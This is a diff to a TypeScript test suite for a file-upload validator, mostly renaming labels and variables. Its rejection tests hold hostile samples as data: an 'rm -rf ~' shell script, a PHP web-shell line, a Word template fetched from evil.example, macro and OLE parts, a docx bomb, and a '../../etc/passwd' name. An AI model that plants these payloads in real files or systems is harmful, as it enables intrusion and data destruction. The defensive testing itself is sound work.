@@ -45,16 +45,16 @@ const file = (fileName: string, type: string, content: string | Uint8Array): Par
 });
 const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
 
-/** Returns the refusal, and checks that no file is left. */
+/** Returns the message of the refusal, after which no file may be left, or 'accepted'. */
 async function refusalOf(body: Buffer, options = {}): Promise<string> {
   const outcome = await receiveUpload(multipartRequest(body, options), dir, RULES).then(
-    () => 'taken',
+    () => 'accepted',
     (error: unknown) => {
       if (!(error instanceof UploadRefusal)) throw error;
       return error.message;
     },
   );
-  if (outcome !== 'taken') expect(readdirSync(dir)).toEqual([]);
+  if (outcome !== 'accepted') expect(readdirSync(dir)).toEqual([]);
   return outcome;
 }
 
@@ -94,26 +94,26 @@ test.each([
   ['an exe renamed .png', file('a.png', 'image/png', SAMPLE_EXE), 'File type not allowed: a.png'],
   ['an exe', file('a.exe', 'application/x-msdownload', SAMPLE_EXE), 'File type not allowed: a.exe'],
   [
-    'a page named .txt',
+    'an HTML page named .txt',
     file('a.txt', 'text/plain', '\ufeff <!DOCTYPE html><script>1</script>'),
     'File type not allowed: a.txt',
   ],
-  ['bytes named .txt', file('a.txt', 'text/plain', Buffer.from([0xff, 0xfe, 0x41])), 'File type not allowed: a.txt'],
+  ['UTF-16 named .txt', file('a.txt', 'text/plain', Buffer.from([0xff, 0xfe, 0x41])), 'File type not allowed: a.txt'],
   ['NUL in a text', file('a.txt', 'text/plain', 'a\0b'), 'File type not allowed: a.txt'],
   [
     'a truncated character at the end',
     file('a.txt', 'text/plain', Buffer.from([0x41, 0xe0])),
     'File type not allowed: a.txt',
   ],
-  ['a svg', file('a.svg', 'image/svg+xml', '<svg/>'), 'File type not allowed: a.svg'],
+  ['an SVG', file('a.svg', 'image/svg+xml', '<svg/>'), 'File type not allowed: a.svg'],
   ['a PDF named .jpg', file('a.jpg', 'image/jpeg', SAMPLE_PDF), 'File type not allowed: a.jpg'],
-  ['a picture declared as a page', file('a.png', 'text/html', png), 'File type not allowed: a.png'],
+  ['a picture declared as HTML', file('a.png', 'text/html', png), 'File type not allowed: a.png'],
   ['an old .doc named .docx', file('a.docx', DOCX, SAMPLE_DOC), 'File type not allowed: a.docx'],
   ['a docx bomb', file('a.docx', DOCX, sampleDocx(4_000_000_000)), 'File type not allowed: a.docx'],
   ['a truncated docx', file('a.docx', DOCX, sampleDocx().subarray(0, -30)), 'File type not allowed: a.docx'],
-  ['nothing named .png', file('a.png', 'image/png', ''), 'File type not allowed: a.png'],
+  ['an empty file named .png', file('a.png', 'image/png', ''), 'File type not allowed: a.png'],
   [
-    '11 MB',
+    'a file of 11 MB',
     file('a.pdf', 'application/pdf', Buffer.concat([SAMPLE_PDF, Buffer.alloc(11 * MEGABYTE)])),
     'File a.pdf is too large (max 10MB)',
   ],
@@ -125,10 +125,10 @@ test.each([
 
 const MACRO_TYPES =
   '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
-const OUTER_TEMPLATE =
+const EXTERNAL_TEMPLATE =
   '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>';
-const A_ZIP = sampleZip([{ name: 'Main.class', content: 'x' }]);
-const word = (name: string, content = 'x') => sampleDocx(undefined, [{ name, content }]);
+const JAR = sampleZip([{ name: 'Main.class', content: 'x' }]);
+const docxWith = (name: string, content = 'x') => sampleDocx(undefined, [{ name, content }]);
 
 test.each([
   ['an exe of printable characters', 'a.txt', `MZ${'x'.repeat(100)}`],
@@ -136,30 +136,30 @@ test.each([
   ['an ELF program', 'a.txt', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(9, 1)])],
   ['a shell script', 'a.txt', '#!/bin/sh\nrm -rf ~\n'],
   ['a batch file', 'a.txt', '@echo off\r\ndel *\r\n'],
-  ['a page', 'a.txt', '\n<script>1</script>'],
+  ['an HTML page', 'a.txt', '\n<script>1</script>'],
   ['a PHP script', 'a.txt', '<?php system($_GET[1]);'],
-  ['an RTF letter', 'a.txt', '{\\rtf1 {\\object}}'],
+  ['an RTF document', 'a.txt', '{\\rtf1 {\\object}}'],
   ['a PDF', 'a.txt', SAMPLE_PDF],
   ['control characters', 'a.txt', 'a\x1b[2Jb'],
-  ['a text with a Java program at its end', 'a.txt', Buffer.concat([Buffer.from('Dear shop\n'), A_ZIP])],
-  ['a PDF with a Java program at its end', 'a.pdf', Buffer.concat([SAMPLE_PDF, A_ZIP])],
-  ['a film with a Java program at its end', 'a.mp4', Buffer.concat([SAMPLE_MP4, A_ZIP])],
-  ['a letter with macros', 'a.docx', word('word/vbaProject.bin')],
-  ['a letter with macros in capitals', 'a.docx', word('word/VBAPROJECT.BIN')],
-  ['a letter with macro data', 'a.docx', word('word/vbaData.xml')],
+  ['a text with a Java program at its end', 'a.txt', Buffer.concat([Buffer.from('Dear shop\n'), JAR])],
+  ['a PDF with a Java program at its end', 'a.pdf', Buffer.concat([SAMPLE_PDF, JAR])],
+  ['a video with a Java program at its end', 'a.mp4', Buffer.concat([SAMPLE_MP4, JAR])],
+  ['a letter with macros', 'a.docx', docxWith('word/vbaProject.bin')],
+  ['a letter with macros in capitals', 'a.docx', docxWith('word/VBAPROJECT.BIN')],
+  ['a letter with macro data', 'a.docx', docxWith('word/vbaData.xml')],
   ['a letter declared with macros', 'a.docx', sampleDocx(undefined, [], MACRO_TYPES)],
   ['a letter without its own content type', 'a.docx', sampleDocx(undefined, [], '<Types/>')],
-  ['a letter with a control', 'a.docx', word('word/activeX/activeX1.bin')],
-  ['a letter with a packed program', 'a.docx', word('word/embeddings/oleObject1.bin')],
-  ['a letter with a script', 'a.docx', word('word/media/run.js')],
-  ['a letter with an external macro template', 'a.docx', word('word/_rels/settings.xml.rels', OUTER_TEMPLATE)],
-  ['a letter with two main parts', 'a.docx', word('word/Document.xml')],
-  ['a letter with data before it', 'a.docx', Buffer.concat([A_ZIP.subarray(0, 40), sampleDocx()])],
+  ['a letter with an ActiveX control', 'a.docx', docxWith('word/activeX/activeX1.bin')],
+  ['a letter with an OLE object', 'a.docx', docxWith('word/embeddings/oleObject1.bin')],
+  ['a letter with a script', 'a.docx', docxWith('word/media/run.js')],
+  ['a letter with an external macro template', 'a.docx', docxWith('word/_rels/settings.xml.rels', EXTERNAL_TEMPLATE)],
+  ['a letter with two main parts', 'a.docx', docxWith('word/Document.xml')],
+  ['a letter with data before it', 'a.docx', Buffer.concat([JAR.subarray(0, 40), sampleDocx()])],
   ['a letter with data after it', 'a.docx', Buffer.concat([sampleDocx(), Buffer.from('<script>')])],
-  ['a sheet of old Excel', 'a.doc', sampleCompound('Workbook')],
+  ['an old Excel sheet', 'a.doc', sampleCompound('Workbook')],
   ['an installer', 'a.doc', sampleCompound('!_StringData', '!_Tables')],
   ['an old letter with macros', 'a.doc', sampleCompound('WordDocument', 'Macros', '_VBA_PROJECT')],
-])('rejects a program as a customer’s file: %s', async (_what, name, content) => {
+])('rejects a program, or a file of another type than its name: %s', async (_what, name, content) => {
   expect(await refusalOf(multipartBody([file(name, 'application/octet-stream', content)]))).toBe(
     `File type not allowed: ${name}`,
   );
@@ -167,10 +167,10 @@ test.each([
 
 test.each([
   ['a letter in Hindi', 'a.txt', '\ufeffनमस्ते,\r\n\tMZ and ELF are letters too. 1 < 2 <script>\f#!\n'],
-  ['a letter with a picture and a sheet', 'a.docx', word('word/embeddings/Sheet1.xlsx')],
+  ['a letter with a picture and a sheet', 'a.docx', docxWith('word/embeddings/Sheet1.xlsx')],
   ['an old letter that mentions macros', 'a.doc', Buffer.concat([SAMPLE_DOC, Buffer.from('Macros', 'utf16le')])],
 ])('accepts a file that only looks like a program: %s', async (_what, name, content) => {
-  expect(await refusalOf(multipartBody([file(name, 'application/octet-stream', content)]))).toBe('taken');
+  expect(await refusalOf(multipartBody([file(name, 'application/octet-stream', content)]))).toBe('accepted');
   rmSync(dir, { recursive: true });
   mkdirSync(dir);
 });
@@ -201,18 +201,18 @@ test('rejects a body that is cut off anywhere before its end, and leaves nothing
   ]);
   for (let end = 0; end < body.length; end += 7) {
     expect(await refusalOf(body.subarray(0, end), { fails: true })).toBe('The form is malformed.');
-    const quietly = await refusalOf(body.subarray(0, end));
-    if (quietly === 'taken') expect(body.subarray(end).toString()).toMatch(/^-?-?\r?\n?$/);
-    else expect(quietly).not.toBe('taken');
+    const outcome = await refusalOf(body.subarray(0, end));
+    if (outcome === 'accepted') expect(body.subarray(end).toString()).toMatch(/^-?-?\r?\n?$/);
+    else expect(outcome).not.toBe('accepted');
   }
 }, 60_000);
 
-/** The long form: `MUTATIONS=20000`. */
+/** For a longer run: `MUTATIONS=20000`. */
 const MUTATIONS = Number(process.env.MUTATIONS ?? 2_000);
-const HANGS_MS = 60_000;
+const HANG_TIMEOUT_MS = 60_000;
 
 test(
-  '2,000 mutated bodies are accepted or rejected without a crash or hang',
+  'mutated bodies are accepted or rejected without a crash or hang',
   async () => {
     const body = multipartBody([
       { name: 'subject', content: 'A parcel' },
@@ -224,12 +224,12 @@ test(
     for (let round = 0; round < MUTATIONS; round++) {
       const mutated = mutate(body, random);
       const options = { pieceBytes: 1 + Math.floor(random() * 3_000), fails: random() < 0.1 };
-      const over = new AbortController();
+      const timeout = new AbortController();
       const outcome = await Promise.race([
         receiveUpload(multipartRequest(mutated, options), dir, RULES).catch((error: unknown) => error),
-        wait(HANGS_MS, 'hangs', { signal: over.signal }),
+        wait(HANG_TIMEOUT_MS, 'hangs', { signal: timeout.signal }),
       ]);
-      over.abort();
+      timeout.abort();
       expect(outcome).not.toBe('hangs');
       if (outcome instanceof Error) expect(outcome, String(outcome.stack)).toBeInstanceOf(UploadRefusal);
       else await (outcome as { discard(): Promise<void> }).discard();
@@ -246,7 +246,7 @@ test('a body whose first part has an endless header does not hang, whatever foll
   for (const body of [cut, Buffer.concat([cut, png.subarray(6), end])]) {
     for (const pieceBytes of [7, 100, 65_536]) {
       const slow = await refusalOf(body, { pieceBytes, isSlow: true });
-      expect(['taken', 'The form is malformed.']).toContain(slow);
+      expect(['accepted', 'The form is malformed.']).toContain(slow);
     }
   }
 });
@@ -256,7 +256,7 @@ test('removes a NUL from a field', async () => {
   expect((await receiveUpload(multipartRequest(body), dir, RULES)).fields).toEqual({ subject: 'Late parcel' });
 });
 
-test('a read-only folder is a server error, not a client error', async () => {
+test('an unusable folder is a server error, not a client error', async () => {
   const path = join(dir, 'a-file');
   writeFileSync(path, '');
   const body = multipartBody([file('a.png', 'image/png', png)]);
@@ -264,7 +264,7 @@ test('a read-only folder is a server error, not a client error', async () => {
   rmSync(path);
 });
 
-test('shows a name without folders and control characters', () => {
+test('shows a name without folders and control characters, and cut at 150 characters', () => {
   expect(shownName('C:\\Users\\Asha\\bill.pdf')).toBe('bill.pdf');
   expect(shownName('../../etc/passwd')).toBe('passwd');
   expect(shownName('gpj.\u202eexe.png\0\r\n')).toBe('gpj.exe.png');
